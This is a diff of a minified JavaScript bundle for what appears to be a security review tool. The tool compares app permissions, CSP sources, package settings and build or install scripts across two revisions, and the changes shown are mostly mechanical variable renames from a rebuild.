 commands.filter(command2=>command2!==import_shared_aces.ANY_APP_COMMAND),isEvery=(0,import_shared_ce.shownCommand)(change2)===import_shared_aces.ANY_APP_COMMAND,
 calls=(0,import_shared_aces.commandsInWords)(isEvery?[]:commands2),example=change2.example===null?void 0:(0,import_shared_acegpst.code)(change2.example);if(change2.
 rule==="ipc/scope-widened"&&change2.note?.kind==="entry-gone")return{action:`use ${calls} with anything`,refused:`${calls} had a scope.`,allowed:`No entry is le\
@@ -12056,18 +12148,18 @@ fer${more}`}}function aloneEffect({ecosystem,halves},action){const kind=(0,impor
 whoever writes the lockfile",action:ACTIONS[change2.rule],base:"the lockfile holds what its lines show",head:`in the lockfile, ${change2.what}`};case"packages/p\
 lugin-halves-differ":return apartEffect(change2,ACTIONS[change2.rule]);case"packages/plugin-half-missing":return aloneEffect(change2,ACTIONS[change2.rule]);case"\
 build/install-script-approved":case"build/installer-extended":case"packages/source-replaced":case"packages/install-guard-removed":return settingEffect(change2);default:
-return releaseEffect(change2)}}function settingEffect(change2){const{rule,setting:setting44,before:before2}=change2,{written:written6}=setting44,[subject,action]=[
+return releaseEffect(change2)}}function settingEffect(change2){const{rule,setting:setting44,before:before3}=change2,{written:written6}=setting44,[subject,action]=[
 subjectOfSetting(change2),actionOfSetting(change2)];if(rule==="packages/install-guard-removed"){const now=change2.ecosystem==="cargo"?"nothing as strict is set":
-"nothing of the kind is set";return{subject,action,base:`${(0,import_shared_acegpst.code)(written6)} holds it back`,head:now}}const isSame10=before2===written6,
-base=before2===null?"nothing sets it":(0,import_shared_acegpst.code)(before2);return{subject,action,base,head:isSame10?`${(0,import_shared_acegpst.code)(written6)}\
+"nothing of the kind is set";return{subject,action,base:`${(0,import_shared_acegpst.code)(written6)} holds it back`,head:now}}const isSame10=before3===written6,
+base=before3===null?"nothing sets it":(0,import_shared_acegpst.code)(before3);return{subject,action,base,head:isSame10?`${(0,import_shared_acegpst.code)(written6)}\
 , where something else lies now`:(0,import_shared_acegpst.code)(written6)}}function actionOfSetting({rule,ecosystem}){return rule==="build/install-script-approv\
 ed"&&ecosystem==="cargo"?"run code on the machine that builds the app, past the checks of cargo-deny":ACTIONS[rule]}function subjectOfSetting({packages,ecosystem,
 setting:setting44}){const scope=(0,import_shared_ce.scopeOf)(setting44);if(scope!==null&&packages.length===1)return`the packages of the scope ${(0,import_shared_acegpst.code)(
 scope)}`;const kind=(0,import_shared_ce.kindOfPackage)(ecosystem);return packages.length===0?ecosystem==="npm"?"installing packages":"building the app":`the ${kind}${packages.
 length===1?"":"s"} ${(0,import_shared_aces.someOf)(packages)}`}function unpinnedEffect({wanted,from}){const names4=(0,import_shared_aces.someOf)(wanted);return{
 subject:wanted.length===1?`the publisher of ${names4}`:`the publishers of ${names4}`,action:ACTIONS["packages/unpinned"],base:`nothing asks for ${names4} unpinn\
-ed`,head:`each build takes ${names4} from ${from} as it is that day`}}function releaseEffect(change2){const[before2,after2]=[wordsBefore(change2),wordsAfter(change2)];
-return{subject:subjectOf3(change2),action:ACTIONS[change2.rule],base:change2.direction==="widened"?before2:after2,head:change2.direction==="widened"?after2:before2}}
+ed`,head:`each build takes ${names4} from ${from} as it is that day`}}function releaseEffect(change2){const[before3,after2]=[wordsBefore(change2),wordsAfter(change2)];
+return{subject:subjectOf3(change2),action:ACTIONS[change2.rule],base:change2.direction==="widened"?before3:after2,head:change2.direction==="widened"?after2:before3}}
 var ACTIONS={"build/build-script-added":"run its build script on the machine that builds the app","build/proc-macro-added":"run as part of the compiler on the m\
 achine that builds the app","build/install-script-added":"run its install script on the machine that builds the app","build/build-code-changed":"run other code \
 on the machine that builds the app","packages/links-added":"link a native library into the app","packages/source-changed":"decide what the package's code is","p\
@@ -12125,9 +12217,9 @@ change2.at,{kind:"not-checked",rests:(0,import_shared_acegos.wordsOf)(change2.do
 fmt main run clone drop next eq hash deref tests test get set init start build name id value".split(" "));function touchedRust(base,head){const ofHead=known12.get(
 head.files)??new WeakMap;known12.set(head.files,ofHead);const ofBoth=ofHead.get(base?.files??NO_FILES)??new Map;ofHead.set(base?.files??NO_FILES,ofBoth);const apps=JSON.
 stringify([base?.location.root,head.location.root]),touched=ofBoth.get(apps)??touchedBetween(base,head);return ofBoth.set(apps,touched),touched}var known12=new WeakMap,
-NO_FILES=new Map;function touchedBetween(base,head){const[before2,after2]=[base===null?[]:filesOf3(base),filesOf3(head)],changed=differing(before2,after2),touched=new Set(
-changed.map(({path})=>path));if(touched.size===0)return touched;const left2=new Set([...before2,...after2].filter(({path})=>!touched.has(path)));for(const file2 of registeredBy(
-changed,[...before2,...after2]))touched.add(file2.path);let ways=new Set([...changed.flatMap(file2=>[...waysInto(file2),...moduleOf2(file2)]),...movedModules2(changed)]);
+NO_FILES=new Map;function touchedBetween(base,head){const[before3,after2]=[base===null?[]:filesOf4(base),filesOf4(head)],changed=differing(before3,after2),touched=new Set(
+changed.map(({path})=>path));if(touched.size===0)return touched;const left2=new Set([...before3,...after2].filter(({path})=>!touched.has(path)));for(const file2 of registeredBy(
+changed,[...before3,...after2]))touched.add(file2.path);let ways=new Set([...changed.flatMap(file2=>[...waysInto(file2),...moduleOf2(file2)]),...movedModules2(changed)]);
 for(let step=0;step<=BOUNDS.calls.head&&ways.size>0;step+=1){const reached5=[...left2].filter(file2=>!wordsIn5(file2).isDisjointFrom(ways));for(const file2 of reached5)
 left2.delete(file2),touched.add(file2.path);ways=new Set(reached5.flatMap(waysInto))}return touched}function waysInto(file2){const names4=[...declaredIn2(file2)],
 common3=names4.filter(name=>!isTelling2(name));if(common3.length===0)return names4;const types=[...file2.text.matchAll(/\bimpl\b[^{;]{0,300}/g)].flatMap(([header])=>header.
@@ -12139,9 +12231,9 @@ get(file2);if(known13!==void 0)return known13;const found12=new Set(file2.text.m
 add(each.slice(0,-2));for(const[,name,list]of file2.text.matchAll(FROM_ROOT))for(const each of list?.match(/\w+/g)??[name])found12.add(`crate::${each}`);return words3.
 set(file2,found12),found12}var FROM_ROOT=/\b(?:crate|super)::(?:(\w+)|\{([^}]{0,500}))/g;function isTelling2(name){return name.length>2&&!EVERYWHERE3.has(name)}
 function moduleOf2({path}){const name=moduleName(path);return/^\w+$/.test(name)&&!ROOTS.has(name)?[mentionOf(name)]:[]}function mentionOf(module2){return isTelling2(
-module2)?module2:`${module2}::`}var ROOTS=new Set(["lib","main","src"]);function filesOf3(project){return rustOfApp(project).files.map(({file:file2})=>file2)}function differing(before2,after2){
-const nameOf16=({path,id})=>`${id} ${path}`,[there,here]=[new Set(before2.map(nameOf16)),new Set(after2.map(nameOf16))];return[...before2.filter(file2=>!here.has(
-nameOf16(file2))),...after2.filter(file2=>!there.has(nameOf16(file2)))]}function registeredBy(changed,all){const isHidden2=all.some(({text:text3})=>mayRegister(
+module2)?module2:`${module2}::`}var ROOTS=new Set(["lib","main","src"]);function filesOf4(project){return rustOfApp(project).files.map(({file:file2})=>file2)}function differing(before3,after2){
+const nameOf17=({path,id})=>`${id} ${path}`,[there,here]=[new Set(before3.map(nameOf17)),new Set(after2.map(nameOf17))];return[...before3.filter(file2=>!here.has(
+nameOf17(file2))),...after2.filter(file2=>!there.has(nameOf17(file2)))]}function registeredBy(changed,all){const isHidden2=all.some(({text:text3})=>mayRegister(
 text3)&&HIDDEN2.test(text3)),words4=new Set(changed.flatMap(({text:text3})=>isHidden2||mayRegister(text3)?text3.match(/\w+/g)??[]:[]));return words4.size===0?[]:
 all.filter(file2=>file2.text.includes("command")&&!declaredIn2(file2).isDisjointFrom(words4))}function mayRegister(text3){return[...REGISTERING].some(name=>text3.
 includes(name))}var HIDDEN2=/\bmacro_rules\b|\b(?:generate_handler|collect_commands)\s+as\b/;async function parserFor(apps,syntax){return syntax===null?null:apps.
@@ -12157,10 +12249,10 @@ path,app))return[];const message=`${(0,import_shared_acegpst.code)(path)} could 
  hand.`;return[(0,import_shared_acegos.gapIn)(path,{kind:"not-checked",rests:(0,import_shared_acegos.contentOf)(file2),message})]})}function isOfPermissions(path,app){
 return isCapabilityFile(path,app)||isAppPermissionFile(path,app)||pluginOfPermissionFile(path,app)!==void 0}function byCondition({build,base,head}){const conditions=new Map;
 for(const grant2 of[...head.grants,...(base?.grants??[]).filter(isGuard2)]){const only2=conditionOf3(grant2);only2!==null&&(build===null||only2.kind==="reach")&&
-conditions.set(nameOf12(only2),only2)}const held3=condition=>({build:condition===null||condition.kind==="reach"?build:buildOf3(condition),base:base&&heldBy2(base,
+conditions.set(nameOf13(only2),only2)}const held3=condition=>({build:condition===null||condition.kind==="reach"?build:buildOf3(condition),base:base&&heldBy2(base,
 condition),head:heldBy2(head,condition)}),looked=[...conditions.values()].filter(condition=>!isAlike2(base,head,condition));return[held3(null),...looked.map(held3)]}
 function isGuard2(grant2){return grant2.domain==="config"&&grant2.kind==="guard"}function isAlike2(base,head,condition){const said2=({grants})=>(0,import_shared_acegos.wordsOf)(
-grants.filter(grant2=>isSame8(conditionOf3(grant2),condition)));return condition.kind==="reach"&&base!==null&&said2(base)===said2(head)}function nameOf12({kind,
+grants.filter(grant2=>isSame8(conditionOf3(grant2),condition)));return condition.kind==="reach"&&base!==null&&said2(base)===said2(head)}function nameOf13({kind,
 name}){return`${kind} ${name}`}function isSame8(a3,b5){return a3?.kind===b5?.kind&&a3?.name===b5?.name}function heldBy2(surface,condition){const isHeld3=grant2=>{
 const only2=conditionOf3(grant2);return only2===null||isSame8(only2,condition)};return{...surface,grants:surface.grants.filter(isHeld3)}}function conditionOf3(grant2){
 return grant2.domain==="ipc"||grant2.domain==="config"&&grant2.kind!=="part"?grant2.only??null:null}function buildOf3({kind,name}){return kind==="reach"?null:kind===
@@ -12174,45 +12266,45 @@ domain==="ipc"}function beyondCalls(findings,waived,own,{app,base,head,gaps},{st
 granted2=ofCalls.flatMap(({covers})=>grantsWithin(covers.extent,head.ipc)),[first]=ofCalls;if(base===null||first===void 0||granted2.length===0)return{findings,waived};
 const nothing=byDomain([]),again=compareSurfaces({...nothing,ipc:[...base.ipc,...granted2]},{...nothing,ipc:head.ipc},work),{findings:beyond2,gaps:doubts}=judge(
 app,again.changes,base,head,stoodAt,work),known13=new Set(gaps.map(gapName2));if(doubts.length>0||again.gaps.some(gap3=>!known13.has(gapName2(gap3))))return{findings,
-waived};const still=new Set(beyond2.map(placeOf11)),gone=findings.filter(finding=>isOfCalls(finding)&&!still.has(placeOf11(finding))),done=new Set(waived.map(nameOf13));
-return{findings:[...beyond2.filter(finding=>!done.has(nameOf13(finding))),...findings.filter(finding=>!isOfCalls(finding))],waived:[...waived,...gone.map(finding=>({
-...finding,waiver:(0,import_shared_aces.noteOf)(first)}))]}}function gapName2({kind,rests}){return`${kind}\0${rests}`}function nameOf13({rule,key:key3}){return`${rule}\
+waived};const still=new Set(beyond2.map(placeOf11)),gone=findings.filter(finding=>isOfCalls(finding)&&!still.has(placeOf11(finding))),done=new Set(waived.map(nameOf14));
+return{findings:[...beyond2.filter(finding=>!done.has(nameOf14(finding))),...findings.filter(finding=>!isOfCalls(finding))],waived:[...waived,...gone.map(finding=>({
+...finding,waiver:(0,import_shared_aces.noteOf)(first)}))]}}function gapName2({kind,rests}){return`${kind}\0${rests}`}function nameOf14({rule,key:key3}){return`${rule}\
 \0${key3}`}function placeOf11({path,line,column}){return`${path}:${line}:${column}`}function needsOf2({builds:[build]}){return build===void 0?[]:appReaders.flatMap(
 reader=>reader.needs?.(build.base,build.head)??[])}function reviewApp(app,facts,judging,parser=null){const{stoodAt,work}=judging,findings=new Map,waived=new Map,
-narrowings=new Map,{builds:builds2,unread:unread4,...sides}=readableBuilds(app,{...knownOf(app,facts),parser}),[before2,after2]=[[...sides.before],[...sides.after]],
+narrowings=new Map,{builds:builds2,unread:unread4,...sides}=readableBuilds(app,{...knownOf(app,facts),parser}),[before3,after2]=[[...sides.before],[...sides.after]],
 compared3=[...mendedOf(app,unread4,sides.after)],all=comparedOnce(builds2,app,unread4);for(const{build,head,granted:granted2,grants}of all){const{changes:changes2,
 gaps,unread:patterns3}=compareSurfaces(granted2,grants,work,heldBefore(app,head)),judged=judge(app.location.root,changes2,granted2,grants,stoodAt,work),between3={
-app:app.location.root,base:granted2,head:grants,gaps},decided=waive(judged.findings,between3,judging);for(const finding of decided.findings)keep(findings,nameOf14(
-finding),within5(build,finding));for(const finding of decided.waived)keep(waived,nameOf14(finding),within5(build,finding));for(const narrowing of judged.narrowings)
-keep(narrowings,narrowing.key,narrowing);compared3.push(...gaps,...judged.gaps),before2.push(...patterns3.base),after2.push(...patterns3.head)}return{findings:[
-...findings.values()],waived:[...waived.values()],narrowings:[...narrowings.values()],gaps:[...(0,import_shared_acegos.sinceWhen)(distinct6(before2),distinct6(after2)),
+app:app.location.root,base:granted2,head:grants,gaps},decided=waive(judged.findings,between3,judging);for(const finding of decided.findings)keep(findings,nameOf15(
+finding),within5(build,finding));for(const finding of decided.waived)keep(waived,nameOf15(finding),within5(build,finding));for(const narrowing of judged.narrowings)
+keep(narrowings,narrowing.key,narrowing);compared3.push(...gaps,...judged.gaps),before3.push(...patterns3.base),after2.push(...patterns3.head)}return{findings:[
+...findings.values()],waived:[...waived.values()],narrowings:[...narrowings.values()],gaps:[...(0,import_shared_acegos.sinceWhen)(distinct6(before3),distinct6(after2)),
 ...beforeOnly(sides.before,sides.after),...distinct6(compared3).map(gap3=>({...gap3,since:"head"}))],root:app.location.root,own:all[0]===void 0?null:{base:all[0].
 granted,head:all[0].grants}}}function comparedOnce(builds2,app,unread4){const[own,...others]=builds2.flatMap(byCondition).map(build=>grantedBy(build,app,unread4));
 return own===void 0?[]:[own,...others.map(other=>beyond(own,other))]}function grantedBy(build,app,unread4){const{base,head}=build,granted2=base===null?null:byDomain(
-[...withoutWordsOf(base.grants,unread4,app.location),...app.standing(base.grants,head.grants)]),{packages}=heldBefore(app,head),before2=granted2!==null&&app.isBeside?
-{...granted2,packages}:granted2;return{...build,granted:before2,grants:byDomain(head.grants)}}function beyond(own,other){const isOwn6=domain=>isAlike(own.granted?.[domain]??
+[...withoutWordsOf(base.grants,unread4,app.location),...app.standing(base.grants,head.grants)]),{packages}=heldBefore(app,head),before3=granted2!==null&&app.isBeside?
+{...granted2,packages}:granted2;return{...build,granted:before3,grants:byDomain(head.grants)}}function beyond(own,other){const isOwn6=domain=>isAlike(own.granted?.[domain]??
 [],other.granted?.[domain]??[])&&isAlike(own.grants[domain],other.grants[domain]),left2=({ipc,csp:csp2,config,packages,policy,commands:commands2,steps})=>({policy,
 ipc:isOwn6("ipc")?[]:ipc,csp:isOwn6("csp")?[]:csp2,config:isOwn6("config")?[]:config,packages:isOwn6("packages")?[]:packages,commands:isOwn6("commands")?[]:commands2,
 steps:isOwn6("steps")?[]:steps});return{...other,granted:other.granted&&left2(other.granted),grants:left2(other.grants)}}function heldBefore({isUnchanged},{grants}){
 return byDomain(grants.filter(grant2=>grant2.domain==="packages"&&isUnchanged(placeOf10(grant2).path)))}function mendedOf({files,location},unread4,after2){return mended(
-unread4.difference(unreadFiles2(after2)),files,location)}function readableBuilds(app,known13){const builds2=app.builds.map(build=>readBuild(build,known13)),before2=distinct6(
+unread4.difference(unreadFiles2(after2)),files,location)}function readableBuilds(app,known13){const builds2=app.builds.map(build=>readBuild(build,known13)),before3=distinct6(
 [...app.unread.base,...builds2.flatMap(({base})=>base?.gaps??[])]),after2=distinct6([...app.unread.head,...builds2.flatMap(({head})=>head.gaps)]),[unread4,unreadOfHead]=[
-unreadFiles2(before2),unreadFiles2(after2)];return unread4.size===0&&unreadOfHead.size===0?{builds:builds2,before:before2,after:after2,unread:unread4}:{builds:app.
-of(withStandIns(app.files,unread4,unreadOfHead)).map(build=>readBuild(build,known13)),before:before2,after:after2,unread:unread4}}function knownOf(app,facts){return{
+unreadFiles2(before3),unreadFiles2(after2)];return unread4.size===0&&unreadOfHead.size===0?{builds:builds2,before:before3,after:after2,unread:unread4}:{builds:app.
+of(withStandIns(app.files,unread4,unreadOfHead)).map(build=>readBuild(build,known13)),before:before3,after:after2,unread:unread4}}function knownOf(app,facts){return{
 facts,interfaces:interfacesIn(needsOf2(app),facts)}}function readBuild({build,base,head},{facts,interfaces,parser}){const rust=build===null?changedRust(parser,base,
 head):void 0,surfaceOf3=(bare2,side)=>{const project=interfaces.size===0?bare2:{...bare2,interfaces},surfaces2=appReaders.filter(reader=>build===null||reader.layered).
 map(reader=>reader.read(project,rust?.[side]));return{grants:withCallers(enriched(surfaces2.flatMap(({grants})=>grants),facts)),gaps:[...project.gaps,...surfaces2.
-flatMap(({gaps})=>gaps)]}};return{build,base:base===null?null:surfaceOf3(base,"base"),head:surfaceOf3(head,"head")}}function beforeOnly(before2,after2){const still=new Set(
-after2.map(({path,kind})=>`${kind}\0${path}`));return before2.filter(({kind,path})=>kind==="unparsed"&&!still.has(`${kind}\0${path}`)).map(gap3=>({...gap3,blocking:!1,
+flatMap(({gaps})=>gaps)]}};return{build,base:base===null?null:surfaceOf3(base,"base"),head:surfaceOf3(head,"head")}}function beforeOnly(before3,after2){const still=new Set(
+after2.map(({path,kind})=>`${kind}\0${path}`));return before3.filter(({kind,path})=>kind==="unparsed"&&!still.has(`${kind}\0${path}`)).map(gap3=>({...gap3,blocking:!1,
 message:`Before this change: ${gap3.message}`,since:"base"}))}function distinct6(gaps){return[...new Map(gaps.map(gap3=>[JSON.stringify(gap3),gap3])).values()]}
 function within5(build,finding){return build===null?finding:{...finding,severity:(0,import_shared_aceps.severityIn)(build,finding.severity),title:`${finding.title.
-replace(/\.$/,"")}, ${buildInWords(build)}`,message:`Only what ${(0,import_shared_acegpst.code)(build.command)} builds gets this. ${finding.message}`,build}}function nameOf14({
+replace(/\.$/,"")}, ${buildInWords(build)}`,message:`Only what ${(0,import_shared_acegpst.code)(build.command)} builds gets this. ${finding.message}`,build}}function nameOf15({
 rule,key:key3}){return`${rule}\0${key3}`}function keep(map,key3,value){map.has(key3)||map.set(key3,value)}var MOST_EDITS2=1e3;function stoodAtIn(base,head){const paired2=new Map;
-return place=>{const[before2,after2]=[base.get(place.path),head.get(place.path)];if(before2===void 0||after2===void 0)return null;if(before2.text===after2.text)
-return place;const blocks=paired2.get(place.path)??blocksOf(before2.text.split(`
+return place=>{const[before3,after2]=[base.get(place.path),head.get(place.path)];if(before3===void 0||after2===void 0)return null;if(before3.text===after2.text)
+return place;const blocks=paired2.get(place.path)??blocksOf(before3.text.split(`
 `),after2.text.split(`
-`));return paired2.set(place.path,blocks),placeIn5(blocks,place)}}function blocksOf(before2,after2){const parts=(0,import_shared_ce.diffArrays)(before2.map(bare),
-after2.map(bare),{maxEditLength:MOST_EDITS2}),blocks=[];let[base,head,gone]=[1,1,0];for(const{added,removed,value}of parts??[]){const count=value.length;removed?
+`));return paired2.set(place.path,blocks),placeIn5(blocks,place)}}function blocksOf(before3,after2){const parts2=(0,import_shared_ce.diffArrays)(before3.map(bare),
+after2.map(bare),{maxEditLength:MOST_EDITS2}),blocks=[];let[base,head,gone]=[1,1,0];for(const{added,removed,value}of parts2??[]){const count=value.length;removed?
 gone=count:added?(blocks.push({kind:gone>0?"replaced":"added",base,baseLines:gone,head,headLines:count}),base+=gone,head+=count,gone=0):(base+=gone,gone=0,blocks.
 push({kind:"same",base,baseLines:count,head,headLines:count}),base+=count,head+=count)}return blocks}function bare(line){return line.trim().replace(/(?<!\s)\s*,$/,
 "")}function placeIn5(blocks,{path,line,column,endLine}){const block=blocks.find(({head:head2,headLines:headLines2})=>head2<=line&&line<head2+headLines2);if(block===
@@ -12220,10 +12312,10 @@ void 0||block.kind==="added")return null;const{base,baseLines,head,headLines}=bl
 endLine:last};const first=base+line-head,isSame10=block.kind==="same";return{path,line:first,column:isSame10?column:1,endLine:Math.min(last,first+endLine-line)}}
 var NO_APP={root:"",config:""},OF_NO_APP={root:null,own:null};async function reviewRepository(readers2,sides,changed,waivers,work,isNew2=!1){const wants=path=>readers2.
 some(({files})=>files.some(kind=>kind.wants(path,NO_APP)));if(![...changed].some(wants))return{findings:[],waived:[],narrowings:[],gaps:[],...OF_NO_APP};const read11=await readWanted(
-sides,wants),[before2,after2]=[surfaceOf3("base"),surfaceOf3("head")],[standing2,grants]=[byDomain(before2.grants),byDomain(after2.grants)],granted2=isNew2?{...standing2,
+sides,wants),[before3,after2]=[surfaceOf3("base"),surfaceOf3("head")],[standing2,grants]=[byDomain(before3.grants),byDomain(after2.grants)],granted2=isNew2?{...standing2,
 steps:[]}:standing2,{changes:changes2,gaps,unread:unread4}=compareSurfaces(isNew2?null:granted2,grants,work,granted2),judging={waivers,stoodAt:stoodAtIn(read11.
 base.files,read11.head.files),work},judged=judge(null,changes2,granted2,grants,judging.stoodAt,work);return{...OF_NO_APP,...judged,...waive(judged.findings,{app:null,
-base:granted2,head:grants,gaps},judging),gaps:[...(0,import_shared_acegos.sinceWhen)([...before2.gaps,...unread4.base],[...after2.gaps,...unread4.head]),...[...gaps,
+base:granted2,head:grants,gaps},judging),gaps:[...(0,import_shared_acegos.sinceWhen)([...before3.gaps,...unread4.base],[...after2.gaps,...unread4.head]),...[...gaps,
 ...judged.gaps].map(gap3=>({...gap3,since:"head"}))]};function surfaceOf3(side){const repository={files:read11[side].files,contents:sides[side].contents},surfaces2=readers2.
 map(reader=>reader.read(repository));return{grants:surfaces2.flatMap(surface=>surface.grants),gaps:[...read11[side].gaps,...surfaces2.flatMap(surface=>surface.gaps)]}}}
 function readWanted({base,head},wants){const wanted=({entries})=>entries.filter(({path})=>wants(path));return readBothSides(base.tree,head.tree,wanted(base),wanted(
@@ -12237,12 +12329,12 @@ get(page)??new Map;cells.set(page,ofPage2);for(const command2 of commands2){if(c
 denied2=new Set(head.flatMap(({effect,command:command2})=>effect==="deny"?[command2]:[]));for(const grant2 of head)grant2.effect==="allow"&&!denied2.has(grant2.
 command)&&put(pagesOf2(grant2),[grant2.command],"same");for(const{about}of narrowings)about.domain==="ipc"&&put(about.pages,about.commands,"removed");for(const{
 about,rule}of findings)about.domain==="ipc"&&put(about.pages,about.commands,rule==="ipc/scope-widened"?"wider":"added");return count>MOST_CELLS?null:together4([
-...cells].sort(byName2))}function together4(cells){return[...Map.groupBy(cells,([,states])=>JSON.stringify([...states].sort(byName2))).values()].map(members2=>{
-const states=[...members2[0]?.[1]??[]].sort(byName2),of2=state=>states.flatMap(([command2,each])=>each===state?[command2]:[]);return{pages:members2.map(([page])=>page),
-same:of2("same"),added:of2("added"),wider:of2("wider"),removed:of2("removed")}})}function byName2([a3],[b5]){return a3<b5?-1:1}function pagesOf2({windows:windows2,
+...cells].sort(byName3))}function together4(cells){return[...Map.groupBy(cells,([,states])=>JSON.stringify([...states].sort(byName3))).values()].map(members2=>{
+const states=[...members2[0]?.[1]??[]].sort(byName3),of2=state=>states.flatMap(([command2,each])=>each===state?[command2]:[]);return{pages:members2.map(([page])=>page),
+same:of2("same"),added:of2("added"),wider:of2("wider"),removed:of2("removed")}})}function byName3([a3],[b5]){return a3<b5?-1:1}function pagesOf2({windows:windows2,
 webviews,context:context2}){const labels=[...windows2,...webviews].map(({text:text3})=>text3);return context2.kind==="remote"?[...labels,context2.url.text]:labels}
-function policyOf(base,head,findings){const[before2,after2]=[sourcesOf2(base[0]),sourcesOf2(head[0])],widened2=new Set(findings.flatMap(({witness})=>witness.kind===
-"csp"?[witness.directive]:[]));return[...new Set([...before2.keys(),...after2.keys()])].sort().flatMap(directive2=>{const[was,is]=[before2.get(directive2)??[],after2.
+function policyOf(base,head,findings){const[before3,after2]=[sourcesOf2(base[0]),sourcesOf2(head[0])],widened2=new Set(findings.flatMap(({witness})=>witness.kind===
+"csp"?[witness.directive]:[]));return[...new Set([...before3.keys(),...after2.keys()])].sort().flatMap(directive2=>{const[was,is]=[before3.get(directive2)??[],after2.
 get(directive2)??[]],fresh=widened2.has(directive2)?"added":"covered";return[...is.map(source=>({directive:directive2,source,state:was.includes(source)?"same":fresh})),
 ...was.filter(source=>!is.includes(source)).map(source=>({directive:directive2,source,state:"removed"}))]})}function sourcesOf2(grant2){const found12=new Map;for(const policy of(grant2&&
 parsePage(grant2)?.policies)??[])for(const[directive2,{words:words4}]of policy)found12.set(directive2,[...new Set([...found12.get(directive2)??[],...words4])]);
@@ -12259,11 +12351,11 @@ const blocking=findings.filter((0,import_shared_aces.failsBy)(thresholds)),told3
 witness)]:[])),decided=new Set(blocking.flatMap(({about,path,line})=>about.domain==="commands"?[`${path}:${line}`]:[]));return gaps.map(gap3=>{const isOfPackages=gap3.
 about!==void 0&&gap3.about.length>0&&gap3.about.every(each=>told3.has(each)),isOfCommand=gap3.kind==="dynamic"&&decided.has(`${gap3.path}:${gap3.line}`);return!isOfPackages&&
 !isOfCommand?gap3:{...gap3,blocking:!1,...gap3.blocking&&{told:!0}}})}function withWaivedGaps(gaps,waivers){const waived=new Set(waivers.flatMap(({covers})=>covers.
-kind==="gap"?[nameOf15(covers)]:[]));return gaps.map(gap3=>gap3.blocking&&waived.has(nameOf15({gap:gap3.kind,path:gap3.path,id:(0,import_shared_aces.idOfGap)(gap3)}))?
-{...gap3,blocking:!1}:gap3)}function nameOf15({gap:gap3,path,id}){return JSON.stringify([gap3,path,id])}var MOST_APPS3=50,MOST_WORK=5e7;async function reviewTrees({
+kind==="gap"?[nameOf16(covers)]:[]));return gaps.map(gap3=>gap3.blocking&&waived.has(nameOf16({gap:gap3.kind,path:gap3.path,id:(0,import_shared_aces.idOfGap)(gap3)}))?
+{...gap3,blocking:!1}:gap3)}function nameOf16({gap:gap3,path,id}){return JSON.stringify([gap3,path,id])}var MOST_APPS3=50,MOST_WORK=5e7;async function reviewTrees({
 base,head,facts=offline,rust,policy=import_shared_aces.DEFAULT_POLICY,floor=null,owner=null,today:today2=null,tellsNeedless=!1,accepted=[],shared:shared2,progress=()=>{}}){
-shared2!==void 0&&beginWith(shared2,base),progress("Listing both revisions");const[before2,after2]=await Promise.all([base.list(),head.list()]),[there,here]=[sideOf3(
-base,before2),sideOf3(head,after2)],work=new Work(MOST_WORK),{pairs,gaps:unfound}=await findApps(there,here,work),paths3=changedPaths(before2,after2);progress(`\
+shared2!==void 0&&beginWith(shared2,base),progress("Listing both revisions");const[before3,after2]=await Promise.all([base.list(),head.list()]),[there,here]=[sideOf3(
+base,before3),sideOf3(head,after2)],work=new Work(MOST_WORK),{pairs,gaps:unfound}=await findApps(there,here,work),paths3=changedPaths(before3,after2);progress(`\
 Reading ${Math.min(pairs.length,MOST_APPS3)} apps`);const looked=pairs.slice(0,MOST_APPS3),files=await gather(there,here,looked,paths3),sides={base:there,head:here},
 apps=files.touched.flatMap(pair=>appUnderReview(pair,files.base,files.head,sides)??[]),needs=apps.flatMap(needsOf2);needs.length>0&&progress(`Looking up ${needs.
 length} packages`);const[known13,parser]=await Promise.all([facts.fetch(needs),parserFor(apps,rust??null)]);progress("Comparing");const attributes2=attributeGaps(
@@ -12274,13 +12366,13 @@ await reviewRepository(asked4,sides,paths3,waivers,work,isNew2)],reported=found1
 files.head.files),policy,owner),{findings:waived}=reported(judged.flatMap(each=>each.waived)),{turnedOff,...told3}=reported(judged.flatMap(each=>each.findings)),
 findings=told3.findings.filter(finding=>!isTold(finding,waived)),{changed,gaps:notCovered}=lookedAt(pairs.length===0?new Set:paths3,locationsIn(looked),files,sides),
 standing2=unlessTold(oncePerCause(once([...judged.flatMap(each=>each.gaps),...await gapsOfListings(there,here,locationsIn(looked)),...attributes2,...[...unfound,
-...tooManyApps(pairs),...notCovered].map(gap3=>({...gap3,since:"head"}))])).sort(byPlace),findings,policy),gaps=withWaivedGaps(standing2,waivers);return{base:before2.
+...tooManyApps(pairs),...notCovered].map(gap3=>({...gap3,since:"head"}))])).sort(byPlace),findings,policy),gaps=withWaivedGaps(standing2,waivers);return{base:before3.
 revision,head:after2.revision,verdict:verdictOf(findings,gaps,policy),compared:pairs.length===0?"no-app":paths3.size===0?"no-change":"apps",changed,apps:reviewedApps(
 pairs,apps,judged,findings),findings,waived,needless:tellsNeedless?ofApps.flatMap(app=>needlessOf(app,waivers,work)):[],turnedOff,narrowings:once(judged.flatMap(
 each=>each.narrowings)).sort(import_shared_acegos.comparePlaces),gaps,facts:known13.used()}}function needlessOf({root,own},waivers,work){return root===null||own===
 null?[]:needlessWaivers(waivers,root,own.head,work)}function locationsIn(pairs){return pairs.flatMap(({base,head})=>[base,head]).filter(app=>app!==null)}async function gapsOfListings(base,head,apps){
-const[before2,after2]=await Promise.all([base,head].map(async({tree,listing,contents})=>listingGaps(listing,apps,contents,await linkTargets(tree,hidingLinks(listing,
-apps)))));return(0,import_shared_acegos.sinceWhen)(before2??[],after2??[])}function tooManyApps(pairs){const[first]=pairs.slice(MOST_APPS3),location=first?.head??
+const[before3,after2]=await Promise.all([base,head].map(async({tree,listing,contents})=>listingGaps(listing,apps,contents,await linkTargets(tree,hidingLinks(listing,
+apps)))));return(0,import_shared_acegos.sinceWhen)(before3??[],after2??[])}function tooManyApps(pairs){const[first]=pairs.slice(MOST_APPS3),location=first?.head??
 first?.base;if(location==null)return[];const message=`The repository holds ${pairs.length} apps. ${MOST_APPS3} of them were compared, and this one and the rest \
 were not.`;return[(0,import_shared_acegos.gapIn)(location.config,{kind:"truncated",rests:(0,import_shared_acegos.wordsOf)(MOST_APPS3),message})]}function byPlace(a3,b5){
 return(0,import_shared_acegos.comparePlaces)({...a3,column:1,endLine:a3.line},{...b5,column:1,endLine:b5.line})}function once(items){const meaning3=item=>JSON.stringify(
@@ -12296,7 +12388,7 @@ const isDeclared=/^permissions\/(?:.+\/)?[^/]+\.(?:json|toml)$/.test(path);retur
